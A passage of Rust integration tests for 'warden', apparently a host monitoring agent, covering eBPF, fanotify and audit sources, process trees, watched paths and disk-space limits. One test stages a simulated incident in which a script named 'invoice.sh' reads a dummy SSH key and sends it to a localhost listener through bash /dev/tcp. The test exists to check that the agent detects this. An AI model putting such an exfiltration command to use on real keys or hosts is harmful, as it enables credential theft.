    agent.stop();
    kernel.check();
}

/// io_uring's file operations pass none of the file calls' tracepoints; with
/// `files.source = "ebpf"` they are recorded all the same, each with its result.
#[test]
fn io_uring_file_changes_are_recorded_with_ebpf() {
    let test = "io_uring_file_changes_are_recorded_with_ebpf";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start("[network]\nenabled = false\n[files]\nsource = \"ebpf\"\n");
    if !follows_io_uring(
        test,
        &mut agent,
        "file changes from the file calls' tracepoints",
    ) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let dir_path = std::fs::canonicalize(dir.path()).unwrap();
    let report = spawn_actor_to_end(&["uring-file-storm", &s(&dir_path), "3"]);
    let pid = report["pid"].as_u64().unwrap();
    let mine = |e: &Value| pid_of(e) == pid && e["warden"]["syscall"].as_str().is_some();
    let events = agent.wait_for("the actor's 12 io_uring file operations", |ev| {
        ev.iter().filter(|e| mine(e)).count() >= 12
    });
    let path = |name: &str| s(&dir_path.join(name));
    for i in 0..3 {
        for (action, syscall, name) in [
            ("create", "io_uring(openat)", format!("f{i}")),
            ("close_write", "io_uring(close)", format!("f{i}")),
            ("rename", "io_uring(renameat2)", format!("g{i}")),
            ("delete", "io_uring(unlinkat)", format!("g{i}")),
        ] {
            let e = the(&events, action, syscall, |e| {
                mine(e) && e["file"]["path"] == path(&name).as_str()
            });
            assert_eq!(e["warden"]["syscall"], syscall, "{e}");
            assert_eq!(e["event"]["outcome"], "success", "{e}");
            assert_eq!(e["warden"]["source"], "ebpf", "{e}");
        }
        let renamed = the(&events, "rename", "its old path", |e| {
            mine(e) && e["file"]["path"] == path(&format!("g{i}")).as_str()
        });
        assert_eq!(
            renamed["warden"]["file"]["old_path"],
            path(&format!("f{i}"))
        );
        assert_eq!(renamed["warden"]["syscall_exit"], 0);
    }
    agent.stop();
    kernel.check();
}

/// The source named `name` in a `warden status --json`.
fn status_source(status: &Value, name: &str) -> Option<Value> {
    status["sources"]
        .as_array()?
        .iter()
        .find(|s| s["name"] == name)
        .cloned()
}

/// Without the eBPF process source there are no eBPF file programs: fanotify takes over, and
/// the status says why.
#[test]
fn ebpf_files_fall_back_to_fanotify_without_ebpf() {
    let test = "ebpf_files_fall_back_to_fanotify_without_ebpf";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let mut agent = Agent::start(
        "[sources]\nprocess = \"audit\"\n[network]\nenabled = false\n[files]\nsource = \"ebpf\"\n",
    );
    let status = agent.status();
    let fanotify = status_source(&status, "fanotify").expect("fanotify in the status");
    assert_eq!(fanotify["active"], true, "{status}");
    assert_eq!(
        status_source(&status, "ebpf").unwrap()["active"],
        false,
        "{status}"
    );
    let file = work.path().join("made-under-fanotify");
    std::fs::write(&file, b"x").unwrap();
    let path = s(&file);
    let events = agent.wait_for_matching(&["--path", &path], "the file's creation", |ev| {
        has(ev, "create", |e| file_path(e) == path)
    });
    let created = the(&events, "create", "the creation", |e| file_path(e) == path);
    assert_eq!(created["warden"]["source"], "fanotify", "{created}");
    agent.stop();
    kernel.check();
}

/// Without the eBPF process source there are no eBPF network programs: audit rules take over.
#[test]
fn ebpf_network_falls_back_to_audit_without_ebpf() {
    let test = "ebpf_network_falls_back_to_audit_without_ebpf";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(
        "[sources]\nprocess = \"audit\"\n[network]\nsource = \"ebpf\"\n[files]\nsource = \"off\"\n",
    );
    let status = agent.status();
    let audit = status_source(&status, "audit").expect("audit in the status");
    assert_eq!(audit["active"], true, "{status}");
    let detail = audit["detail"].as_str().unwrap();
    // The default datagrams (each socket's first to each peer) are eBPF's alone.
    assert!(
        detail.starts_with("exec, network (not datagrams: audit records them only with"),
        "{detail}"
    );
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = u64::from(listener.local_addr().unwrap().port());
    let _client = std::net::TcpStream::connect(listener.local_addr().unwrap()).unwrap();
    let me = u64::from(std::process::id());
    let events = agent.wait_for("our connect", |ev| {
        has(ev, "connect", |e| {
            pid_of(e) == me && port_of(&e["destination"]) == port
        })
    });
    let connect = the(&events, "connect", "our connect", |e| {
        pid_of(e) == me && port_of(&e["destination"]) == port
    });
    assert_eq!(connect["warden"]["source"], "audit", "{connect}");
    agent.stop();
    kernel.check();
}

/// A 32-bit program's calls are compat syscalls. With network calls from eBPF its connect is
/// followed all the same (a program at every syscall's exit while it runs); its file calls,
/// which the eBPF file programs cannot see, are counted and said. Audit's rules record its
/// connect too.
#[test]
fn a_32_bit_programs_calls_are_followed_or_told_of() {
    use std::net::{SocketAddr, TcpListener};
    let Some((_serial, kernel)) = begin("a_32_bit_programs_calls_are_followed_or_told_of") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let dir_path = std::fs::canonicalize(dir.path()).unwrap();
    let connector = dir_path.join("connect32");
    let changer = dir_path.join("files32");
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let SocketAddr::V4(to) = listener.local_addr().unwrap() else {
        unreachable!()
    };
    // They wait a little first: the programs that follow them are attached as the eBPF reader
    // learns of their exec.
    ia32::write_connector(&connector, to, 50);
    ia32::write_file_changer(&changer, &dir_path, 50);
    let run = |program: &Path| {
        let mut child = std::process::Command::new(program).spawn().unwrap();
        let pid = u64::from(child.id());
        assert!(child.wait().unwrap().success());
        pid
    };
    let connected = |agent: &Agent, pid: u64| {
        let events = agent.wait_for("the 32-bit program's connect", |ev| {
            has(ev, "connect", |e| pid_of(e) == pid)
        });
        let connect = the(&events, "connect", "its connect", |e| pid_of(e) == pid);
        assert_eq!(
            port_of(&connect["destination"]),
            u64::from(to.port()),
            "{connect}"
        );
        connect.clone()
    };
    let unseen =
        |agent: &Agent| agent.status()["lost"]["ebpf/compat_process_calls_unseen"].as_u64();

    // Followed: network calls and file changes, by the programs at every syscall.
    let mut agent = Agent::start("[network]\nsource = \"ebpf\"\n[files]\nsource = \"ebpf\"\n");
    let detail = status_source(&agent.status(), "ebpf").unwrap()["detail"].to_string();
    assert!(
        detail.contains("32-bit processes' from every syscall's exit"),
        "{detail}"
    );
    assert!(
        detail.contains("32-bit processes' from every syscall's entry and exit"),
        "{detail}"
    );
    let pid = run(&connector);
    assert_eq!(connected(&agent, pid)["warden"]["source"], "ebpf");
    let pid = run(&changer);
    let path = |name: &str| s(&dir_path.join(name));
    let events = agent.wait_for("the 32-bit program's file changes", |ev| {
        has(ev, "delete", |e| pid_of(e) == pid)
    });
    for (action, name) in [
        ("create", "a32"),
        ("close_write", "a32"),
        ("rename", "b32"),
        ("delete", "b32"),
    ] {
        let e = the(&events, action, name, |e| {
            pid_of(e) == pid && e["file"]["path"] == path(name).as_str()
        });
        assert_eq!(e["warden"]["source"], "ebpf", "{e}");
    }
    assert_eq!(unseen(&agent).unwrap_or(0), 0, "{}", agent.status());
    let log = agent.log();
    assert!(
        log.contains("its network and file calls are followed"),
        "{log}"
    );
    agent.stop();

    // Not followed (network.follow_32_bit = false): its TCP connect is still seen, at the
    // socket's change of state; the rest is counted and told of.
    let mut agent = Agent::start("[network]\nsource = \"ebpf\"\nfollow_32_bit = false\n");
    let pid = run(&connector);
    let connect = connected(&agent, pid);
    assert_eq!(connect["warden"]["source"], "ebpf", "{connect}");
    assert!(
        connect["warden"]["syscall_exit"].is_null(),
        "no result yet: {connect}"
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while unseen(&agent) != Some(1) {
        assert!(Instant::now() < deadline, "{}", agent.status());
        std::thread::sleep(Duration::from_millis(200));
    }
    let log = agent.log();
    assert!(
        log.contains("its network calls are compat syscalls"),
        "{log}"
    );
    assert!(
        log.contains("but for their TCP connects and listens"),
        "{log}"
    );
    agent.stop();

    // Audit's rules cover the 32-bit ABI too.
    let mut agent = Agent::start("[network]\nsource = \"audit\"\n");
    let pid = run(&connector);
    assert_eq!(connected(&agent, pid)["warden"]["source"], "audit");
    agent.stop();
    kernel.check();
}

#[test]
fn file_changes_are_recorded_with_audit_rules() {
    file_changes_are_recorded(
        "file_changes_are_recorded_with_audit_rules",
        "audit",
        "auto",
    );
}

// ---------------------------------------------------------------------------------------------
// `warden tree`.

/// `warden tree ARGS --format json`, one object per process.
fn tree_nodes(args: &[&OsStr]) -> Vec<Value> {
    let out = Command::new(warden())
        .arg("tree")
        .args(args)
        .args(["--format", "json"])
        .output()
        .expect("warden tree runs");
    assert!(
        out.status.success(),
        "warden tree {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad JSON line {l:?}: {e}")))
        .collect()
}

/// An incident as the README tells it: a document's script runs a shell, which copies in a
/// binary that reads a key and sends it out. Asked about the key's read, `warden tree` shows
/// the reader with everything it did, its siblings (`--up 1`), and its ancestry up to this
/// test, which started before the agent.
#[test]
fn an_incident_reads_as_one_tree() {
    let Some((_serial, kernel)) = begin("an_incident_reads_as_one_tree") else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let vault = work.path().join("home/.ssh");
    std::fs::create_dir_all(&vault).unwrap();
    let key = vault.join("id_rsa");
    std::fs::write(&key, b"not a real key\n").unwrap();
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let sink = std::thread::spawn(move || {
        let (mut peer, _) = listener.accept().expect("the updater connects");
        let mut stolen = Vec::new();
        std::io::Read::read_to_end(&mut peer, &mut stolen).unwrap();
        stolen
    });
    let mut agent = Agent::start(&format!("[files]\nwatch_paths = [{:?}]\n", s(&vault)));
    let document = work.path().join("invoice.sh");
    std::fs::write(
        &document,
        "bash -c 'cp /usr/bin/cat \"$1/updater\" && \"$1/updater\" \"$1/home/.ssh/id_rsa\" \
         > /dev/tcp/127.0.0.1/$2' inner \"$1\" \"$2\"\n",
    )
    .unwrap();
    let status = Command::new("bash")
        .arg(&document)
        .arg(work.path())
        .arg(port.to_string())
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(sink.join().unwrap(), b"not a real key\n");
    let updater = s(&work.path().join("updater"));
    agent.wait_for_matching(&["--exe", &updater], "the updater's read and exit", |ev| {
        has(ev, "read", |e| file_path(e) == s(&key)) && has(ev, "exit", |_| true)
    });
    // cp's close comes from the changes' fanotify reader, which reads in bursts; the read,
    // from the watches' reader, as it comes: the read can be stored first.
    agent.wait_for_matching(&["--path", &updater], "cp's close of the updater", |ev| {
        has(ev, "close_write", |e| file_path(e) == updater)
    });

    let path = OsString::from(format!("{}/*", s(&vault)));
    let data = agent.data.clone().into_os_string();
    let store = |extra: &[&str]| {
        let mut args: Vec<&OsStr> = vec!["--data-dir".as_ref(), &data, "--path".as_ref(), &path];
        args.extend(extra.iter().map(OsStr::new));
        tree_nodes(&args)
    };
    let nodes = store(&["--up", "1"]);
    let by_entity = |id: &str| nodes.iter().find(|n| n["entity_id"] == id);
    // Drawing order: a parent before its children, each one level deeper.
    for (i, node) in nodes.iter().enumerate() {
        if let Some(parent) = node["parent_entity_id"].as_str().and_then(by_entity) {
            let at = nodes.iter().position(|n| n == parent).unwrap();
            assert!(at < i, "{node} drawn before its parent");
            assert_eq!(
                node["depth"].as_u64(),
                parent["depth"].as_u64().map(|d| d + 1)
            );
        }
    }
    let reader = nodes
        .iter()
        .find(|n| n["executable"] == updater.as_str())
        .unwrap_or_else(|| panic!("no updater in {nodes:#?}"));
    assert_eq!(reader["matched"], true);
    assert_eq!(reader["known"], "recorded");
    // A copy of cat: cat's digest, but no package owns it.
    assert_eq!(reader["sha256"], sha256(Path::new("/usr/bin/cat")));
    assert_eq!(reader["package"], Value::Null, "{reader}");
    assert!(
        reader["exit_code"] == 0 && reader["end"].is_string(),
        "{reader}"
    );
    let events = reader["events"].as_array().unwrap();
    let read = events
        .iter()
        .find(|e| e["event"]["event"]["action"] == "read")
        .unwrap_or_else(|| panic!("no read in {reader}"));
    assert_eq!(read["matched"], true);
    assert_eq!(read["event"]["file"]["path"], s(&key));
    let connect = events
        .iter()
        .find(|e| e["event"]["event"]["action"] == "connect")
        .unwrap_or_else(|| panic!("no connect in {reader}"));
    assert_eq!(connect["matched"], false);
    assert_eq!(connect["event"]["destination"]["port"], port);
    assert!(
        events
            .iter()
            .all(|e| e["event"]["event"]["action"] != "exec"),
        "the exec naming the process is its line, not an event under it: {reader}"
    );

    // Its parent, the inner shell, with the copy beside the reader (--up 1).
    let inner = by_entity(reader["parent_entity_id"].as_str().unwrap()).unwrap();
    assert!(
        inner["command_line"]
            .as_str()
            .unwrap()
            .starts_with("bash -c "),
        "{inner}"
    );
    let copy = nodes
        .iter()
        .find(|n| n["parent_entity_id"] == inner["entity_id"] && n["executable"] == "/usr/bin/cp")
        .unwrap_or_else(|| panic!("no cp beside the updater in {nodes:#?}"));
    assert_eq!(copy["matched"], false);
    assert_eq!(copy["package"], "coreutils");
    assert_eq!(copy["package_verified"], true);
    assert!(
        copy["events"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["event"]["file"]["path"] == updater.as_str()),
        "{copy}"
    );
    // The file cp left is known by the digest the updater then ran with.
    let dropped = copy["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| {
            e["event"]["event"]["action"] == "close_write"
                && e["event"]["file"]["path"] == updater.as_str()
        })
        .unwrap_or_else(|| panic!("no close_write of the updater in {copy}"));
    assert_eq!(
        dropped["event"]["file"]["hash"]["sha256"], reader["sha256"],
        "{dropped}"
    );
    // By the digest alone: the copy that left the file and the updater that ran it.
    let digest = reader["sha256"].as_str().unwrap();
    let by_digest = tree_nodes(&[
        "--data-dir".as_ref(),
        &data,
        "--sha256".as_ref(),
        digest[..16].as_ref(),
    ]);
    let matched = |exe: &str| {
        by_digest
            .iter()
            .any(|n| n["executable"] == exe && n["matched"] == true)
    };
    assert!(
        matched(&updater) && matched("/usr/bin/cp"),
        "{by_digest:#?}"
    );
    // Then the document's shell, and this test: running, started before the agent.
    let shell = by_entity(inner["parent_entity_id"].as_str().unwrap()).unwrap();
    assert_eq!(
        shell["command_line"],
        format!("bash {} {} {port}", s(&document), s(work.path()))
    );
    assert_eq!(
        shell["events"],
        Value::Null,
        "an ancestor's events are not listed"
    );
    let test = by_entity(shell["parent_entity_id"].as_str().unwrap()).unwrap();
    assert_eq!(test["pid"], std::process::id());
    assert_eq!(test["known"], "running");

    // Without --up, the reader's tree starts at the reader: the copy is not in it.
    let narrow = store(&[]);
    assert!(narrow.iter().any(|n| n["executable"] == updater.as_str()));
    assert!(!narrow.iter().any(|n| n["executable"] == "/usr/bin/cp"));

    // The text: the reader marked, its read marked under it, its time marked as fanotify's
    // (when read).
    let text = Command::new(warden())
        .args(["tree".as_ref(), "--data-dir".as_ref(), data.as_os_str()])
        .args(["--path".as_ref(), path.as_os_str()])
        .output()
        .unwrap();
    let text = String::from_utf8(text.stdout).unwrap();
    let reader_line = text
        .lines()
        .position(|l| l.contains(&format!("─ * {updater} ")))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(
        text.lines()
            .skip(reader_line + 1)
            .any(|l| l.trim_start().starts_with("*~")
                && l.ends_with(&format!("read  {} success", s(&key)))),
        "{text}"
    );

    // The same from the JSON lines the agent could have written: the records alone, no /proc.
    let jsonl = work.path().join("events.jsonl");
    std::fs::write(&jsonl, agent.events_output(&[], "json")).unwrap();
    agent.stop();
    let offline = tree_nodes(&[
        "--input".as_ref(),
        jsonl.as_os_str(),
        "--path".as_ref(),
        &path,
    ]);
    let reader = offline
        .iter()
        .find(|n| n["executable"] == updater.as_str())
        .unwrap_or_else(|| panic!("no updater in {offline:#?}"));
    assert_eq!(reader["matched"], true);
    assert!(
        offline.iter().all(|n| n["known"] != "running"),
        "{offline:#?}"
    );

    // A tree must be about something.
    let unbounded = Command::new(warden())
        .args(["tree".as_ref(), "--data-dir".as_ref(), data.as_os_str()])
        .output()
        .unwrap();
    assert!(!unbounded.status.success());
    assert!(String::from_utf8_lossy(&unbounded.stderr).contains("say which processes"));
    kernel.check();
}

/// fanotify stamps no time: an event's is when the agent read it. While changes are sparse the
/// reader wakes for each, so a read of a watched key, just after a file change, keeps its place
/// before a connect its process makes 3 ms later. (When the reader paused 5 ms after every read,
/// the change's read began such a pause, and the key's read was listed after the connect.)
#[test]
fn a_sparse_file_event_keeps_its_place_among_its_processs_calls() {
    let Some((_serial, kernel)) =
        begin("a_sparse_file_event_keeps_its_place_among_its_processs_calls")
    else {
        return;
    };
    let vault = tempfile::tempdir().unwrap();
    let rounds = 5;
    for i in 0..rounds {
        // One key per round: repeated reads of one file are folded into one event.
        std::fs::write(vault.path().join(format!("key{i}")), b"not a real key\n").unwrap();
    }
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut agent = Agent::start(&format!("[files]\nwatch_paths = [{:?}]\n", s(vault.path())));
    // bash writes a file, reads a key itself (no child whose exit would bound the read's time),
    // waits, then connects from the same process.
    let scratch = tempfile::tempdir().unwrap();
    let script = format!(
        "for i in $(seq 0 {}); do echo x > {}/w$i; read -r line < {}/key$i; sleep 0.003; \
         exec 3<>/dev/tcp/127.0.0.1/{port}; exec 3>&-; sleep 0.05; done",
        rounds - 1,
        s(scratch.path()),
        s(vault.path())
    );
    let mut shell = Proc::spawn(Command::new("bash").args(["-c", &script]));
    let pid = u64::from(shell.pid());
    assert!(shell.wait().success());
    let pid_arg = pid.to_string();
    // Only the test's own: where nscd is configured, bash also tries its socket.
    let ours = |e: &&Value| match action(e) {
        "read" => file_path(e).starts_with(&s(vault.path())),
        _ => e["destination"]["port"] == port,
    };
    let events = agent.wait_for_matching(
        &["--pid", &pid_arg, "--class", "read,connect"],
        "the shell's reads and connects",
        |ev| ev.iter().filter(ours).count() >= 2 * rounds,
    );
    agent.stop();
    let order: Vec<String> = events
        .iter()
        .filter(ours)
        .map(|e| match action(e) {
            "read" => format!("read {}", file_path(e).rsplit('/').next().unwrap_or("")),
            other => other.to_owned(),
        })
        .collect();
    let expected: Vec<String> = (0..rounds)
        .flat_map(|i| [format!("read key{i}"), "connect".to_owned()])
        .collect();
    assert_eq!(order, expected, "in time order: {events:#?}");
    drop(listener);
    kernel.check();
}

/// A watch stays on its path: a watched file replaced by a rename, as a password change
/// replaces /etc/shadow, is watched in its new form (fanotify's mark was on the old file;
/// audit's watches follow their paths); a watched path whose directory was missing at the
/// start is watched once made (fanotify marks it as its creation is read; audit's rule comes
/// at the next look).
#[test]
fn watches_follow_their_paths_with_fanotify() {
    watches_follow_their_paths("watches_follow_their_paths_with_fanotify", "fanotify");
}

/// Beside eBPF's file changes fanotify marks the watched paths only: a watch marks its parent
/// directory too, for what makes a file at its path.
#[test]
fn watches_follow_their_paths_with_ebpf_files() {
    watches_follow_their_paths("watches_follow_their_paths_with_ebpf_files", "ebpf");
}

#[test]
fn watches_follow_their_paths_with_audit_rules() {
    watches_follow_their_paths("watches_follow_their_paths_with_audit_rules", "audit");
}

fn watches_follow_their_paths(test: &str, source: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let work = tempfile::tempdir().unwrap();
    let dir = std::fs::canonicalize(work.path()).unwrap();
    let secret = dir.join("shadow");
    std::fs::write(&secret, b"root:old:\n").unwrap();
    // In a directory made later too: audit watches a missing name in an existing directory
    // from the start.
    let later = dir.join("new-dir/made-later");
    let (secret_s, later_s) = (s(&secret), s(&later));
    let mut agent = Agent::start(&format!(
        "[network]\nenabled = false\n[files]\nsource = {source:?}\n\
         watch_paths = [{secret_s:?}, {later_s:?}]\n"
    ));
    let cat = |path: &Path| {
        let out = Command::new("/bin/cat").arg(path).output().unwrap();
        assert!(out.status.success());
    };
    let reads_of = |path: &str, count: usize, what: &str| -> Vec<Value> {
        let events = agent.wait_for_matching(&["--path", path, "--class", "read"], what, |ev| {
            ev.iter().filter(|e| action(e) == "read").count() >= count
        });
        events.into_iter().filter(|e| action(e) == "read").collect()
    };
    let marked = |at_least: u64| {
        // Audit's look comes every 10 s.
        let deadline = Instant::now() + Duration::from_secs(25);
        while agent.status()["watches_marked_since_start"].as_u64() < Some(at_least) {
            assert!(Instant::now() < deadline, "{}", agent.status());
            std::thread::sleep(Duration::from_millis(100));
        }
    };
    cat(&secret);
    reads_of(&secret_s, 1, "the first read");
    // chpasswd's way: a new file written beside it, renamed over it.
    let script = "printf 'root:new:\\n' > \"$1+\" && mv \"$1+\" \"$1\"";
    let mut shell = Proc::spawn(
        Command::new("/bin/sh")
            .args(["-c", script, "sh"])
            .arg(&secret),
    );
    assert!(shell.wait().success());
    // Reads come from fanotify's marks beside eBPF's file changes.
    let fanotify = source != "audit";
    if fanotify {
        marked(1);
    }
    cat(&secret);
    let reads = reads_of(&secret_s, 2, "the read of the new file");
    let inodes: Vec<&Value> = reads.iter().map(|e| &e["file"]["inode"]).collect();
    assert_ne!(
        inodes[0], inodes[1],
        "the old file, then the new: {reads:?}"
    );
    // Made after the start.
    std::fs::create_dir(dir.join("new-dir")).unwrap();
    std::fs::write(&later, b"made\n").unwrap();
    marked(if fanotify { 2 } else { 1 });
    cat(&later);
    let made = reads_of(&later_s, 1, "the read of the file made later");
    for read in reads.iter().chain(&made) {
        assert_eq!(read["warden"]["file"]["watch"], "configured", "{read}");
        assert!(
            read["process"]["executable"]
                .as_str()
                .unwrap()
                .ends_with("cat")
        );
        let read_by = if fanotify { "fanotify" } else { "audit" };
        assert_eq!(read["warden"]["source"], read_by, "{read}");
    }
    agent.stop();
    kernel.check();
}

/// What an unprivileged program may still write on the filesystem holding `path`.
fn available(path: &Path) -> u64 {
    let st = nix::sys::statvfs::statvfs(path).expect("statvfs");
    st.blocks_available() * st.fragment_size()
}

/// The agent never fills the disk it writes to. On a tmpfs of 32 MiB that must keep 4 MiB free,
/// under execs with long random argv (16 KiB each, which do not compress): the store and the
/// JSON file stop at the floor, and what does not fit is dropped and counted. Another program
/// then takes the space: the store gives its oldest events back, the JSON file its rotated
/// files. When space comes back, recording goes on, and every line of the JSON file is whole.
/// Last, a program takes every free byte at once, between two of the store's looks: with no
/// room even to delete, the store gives back its reserve, then its oldest events.
#[test]
fn the_agent_never_fills_its_disk_and_gives_space_back() {
    let test = "the_agent_never_fills_its_disk_and_gives_space_back";
    let tools = ["unshare", "nsenter", "mount"];
    if let Some(missing) = tools.iter().find(|tool| {
        !Command::new(tool)
            .arg("--version")
            .output()
            .is_ok_and(|out| out.status.success())
    }) {
        eprintln!("skipping {test}: {missing} (util-linux) is not installed");
        return;
    }
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    const MIB: u64 = 1 << 20;
    let floor = 4 * MIB;
    let mount = tempfile::tempdir().unwrap();
    let jsonl = mount.path().join("events.jsonl");
    let mut agent = Agent::start_on_tmpfs(
        &format!(
            "[retention]\nkeep_free = \"4MiB\"\n[output]\nfile = {:?}\nfile_max_size = \"1MiB\"\n\
             file_keep = 3\n[files]\nsource = \"fanotify\"\n",
            s(&jsonl)
        ),
        mount.path(),
        "32m",
    );
    let disk = agent.mounted(mount.path());
    let storm = tempfile::tempdir().unwrap();

    // 1. Execs until the disk is down to its floor: from then on the store gives its oldest
    // events back, or drops new ones. It stops short of the floor by what it holds back for
    // its WAL's frames to be copied (its budget here: 2 MiB, a sixteenth of the disk) and for
    // its next batch (1.6 MiB of argv a round, counted twice: its frames and their copies).
    let gave = |agent: &Agent| {
        let status = agent.status();
        status["store_deleted_for_free_space"].as_u64() > Some(0)
            || status["lost"]["store/disk_short"].as_u64() > Some(0)
    };
    let mut lowest = u64::MAX;
    for _ in 0..20 {
        exec_long_argv(100);
        lowest = lowest.min(lowest_free(&disk, Duration::from_millis(300)));
        if lowest < floor + 4 * MIB && gave(&agent) {
            break;
        }
    }
    assert!(
        lowest < floor + 4 * MIB && gave(&agent),
        "the floor was never met ({lowest} bytes left at the lowest): {}",
        agent.status()
    );
    agent.wait_until_quiet();
    lowest = lowest.min(available(&disk));
    // The store knows what a batch takes before it writes it, and the JSON file looks at the
    // floor before each buffer of lines (64 KiB): they pass it by a buffer at most.
    assert!(lowest + MIB / 4 >= floor, "{lowest} bytes were left");
    // Its share: what the JSON file (4 MiB) and the floor leave, less the room a batch needs
    // (its WAL frames, and their copies in the database).
    let share = dir_bytes(&disk.join("data"));
    assert!(
        share > 8 * MIB,
        "the store got {share} bytes: {}",
        agent.status()
    );

    // 2. Another program takes the space, 64 KiB every 20 ms, while events go on, until the
    // disk is full: it gets more than was free, because the agent gives space back.
    agent.wait_until_quiet();
    let free_before = available(&disk);
    let ticker = Proc::spawn(Command::new("bash").args([
        "-c",
        &format!(
            "i=0; while :; do echo $i > {}/t$((i % 50)); i=$((i + 1)); sleep 0.01; done",
            s(storm.path())
        ),
    ]));
    let filler_path = disk.join("filler");
    let mut filler = std::fs::File::create(&filler_path).unwrap();
    let chunk = vec![0x5au8; 64 * 1024];
    let mut taken = 0u64;
    let deadline = Instant::now() + Duration::from_secs(60);
    while filler.write_all(&chunk).is_ok() {
        taken += chunk.len() as u64;
        assert!(Instant::now() < deadline, "the disk never filled");
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        taken >= free_before + 4 * MIB,
        "the filler got {taken} bytes, {free_before} were free: {}",
        agent.status()
    );
    // On the full disk the agent goes on, dropping what it cannot keep, and counts it.
    let dropped = |agent: &Agent| {
        let status = agent.status();
        ["store/disk_short", "jsonl/disk_short"]
            .iter()
            .map(|cause| status["lost"][cause].as_u64().unwrap_or(0))
            .sum::<u64>()
    };
    let before = dropped(&agent);
    poll("losses counted on the full disk", || {
        (dropped(&agent) > before).then_some(())
    });
    let status = agent.status();
    assert!(
        status["store_deleted_for_free_space"].as_u64() > Some(0),
        "{status}"
    );
    for n in 1..=3 {
        let rotated = agent.mounted(&jsonl).with_extension(format!("jsonl.{n}"));
        assert!(!rotated.exists(), "rotated file {n} kept");
    }

    // 3. Space comes back: so does recording.
    drop(filler);
    std::fs::remove_file(&filler_path).unwrap();
    let mark = storm.path().join("after-the-filler");
    std::fs::write(&mark, b"x").unwrap();
    agent.wait_for_matching(
        &["--path", &s(&mark), "--class", "fc"],
        "the file made after space came back",
        |ev| !ev.is_empty(),
    );
    drop(ticker);
    // The loss events say what was dropped, and the JSON file holds whole lines only. The
    // ones said while the disk was full were dropped too (and counted): the one that says so
    // comes with the next second's report, after the mark's event maybe.
    agent.wait_for_matching(
        &["--class", "loss"],
        "a loss event saying events were dropped for a short disk",
        |losses| {
            losses
                .iter()
                .any(|e| e["warden"]["loss"]["cause"] == "disk_short")
        },
    );
    let text = std::fs::read_to_string(agent.mounted(&jsonl)).unwrap();
    for line in text.lines() {
        serde_json::from_str::<Value>(line)
            .unwrap_or_else(|e| panic!("a broken line in the JSON file: {e}: {line:?}"));
    }

    // 4. Every free byte taken in one stroke, once the store holds some MiB again. Without its
    // reserve, SQLite had no room to delete when its WAL had none left: the store kept all it
    // held, the disk stayed full (`full_disk.rs` in the store's tests shows it every time; here
    // the WAL may have room, by the timing of checkpoints).
    let data = disk.join("data");
    let reserve = data.join(warden_store::RESERVE_FILE);
    let held = || dir_bytes(&data);
    for _ in 0..20 {
        if held() >= warden_store::RESERVE_BYTES + 4 * MIB {
            break;
        }
        exec_long_argv(100);
        std::thread::sleep(Duration::from_millis(300));
    }
    let store_bytes = held() - warden_store::RESERVE_BYTES;
    assert!(
        store_bytes >= 4 * MIB,
        "the store holds {store_bytes} bytes"
    );
    poll("the store's reserve", || {
        std::fs::metadata(&reserve)
            .is_ok_and(|m| m.len() == warden_store::RESERVE_BYTES)
            .then_some(())
    });
    agent.wait_until_quiet();
    let grabber_path = disk.join("grabber");
    let grabber = std::fs::File::create(&grabber_path).unwrap();
    // The agent may still write a line or a status between the look and the grab.
    let mut all = available(&disk);
    while let Err(e) = nix::fcntl::posix_fallocate(&grabber, 0, all as i64) {
        assert_eq!(e, nix::errno::Errno::ENOSPC);
        all = all.saturating_sub(64 * 1024);
    }
    assert!(available(&disk) < MIB, "{} bytes left", available(&disk));
    // The store looks at its room each second, commits or not, and gives back its oldest
    // events down to the floor: more than its reserve.
    let deadline = Instant::now() + DEADLINE;
    while available(&disk) < floor {
        assert!(
            Instant::now() < deadline,
            "no space given back on a disk full to the last byte ({} bytes free): {}",
            available(&disk),
            agent.status()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(grabber);
    std::fs::remove_file(&grabber_path).unwrap();
    agent.stop();
    kernel.check();
}

/// The least free space on the filesystem at `path` over `period` (looked at every 2 ms).
fn lowest_free(path: &Path, period: Duration) -> u64 {
    let end = Instant::now() + period;
    let mut lowest = available(path);
    while Instant::now() < end {
        std::thread::sleep(Duration::from_millis(2));
        lowest = lowest.min(available(path));
    }
    lowest
}

/// Runs `count` execs, each with 16 KiB of random argv (which does not compress).
fn exec_long_argv(count: u32) {
    let execs = Command::new("bash")
        .args([
            "-c",
            &format!(
                "for i in $(seq {count}); do /bin/true $(head -c 12000 /dev/urandom | base64 -w0); done"
            ),
        ])
        .status()
        .unwrap();
    assert!(execs.success());
}

/// Bytes of the files directly in `dir`.
fn dir_bytes(dir: &Path) -> u64 {
    std::fs::read_dir(dir)
        .unwrap()
        .filter_map(|e| e.ok()?.metadata().ok())
        .map(|m| m.len())
        .sum()
}

/// A store found damaged at start is set aside and a new one begins: the agent records on.
#[test]
fn a_damaged_store_is_set_aside_and_recording_goes_on() {
    let Some((_serial, kernel)) = begin("a_damaged_store_is_set_aside_and_recording_goes_on")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let junk = b"SQLite format 2\0 and then nothing a database holds".repeat(200);
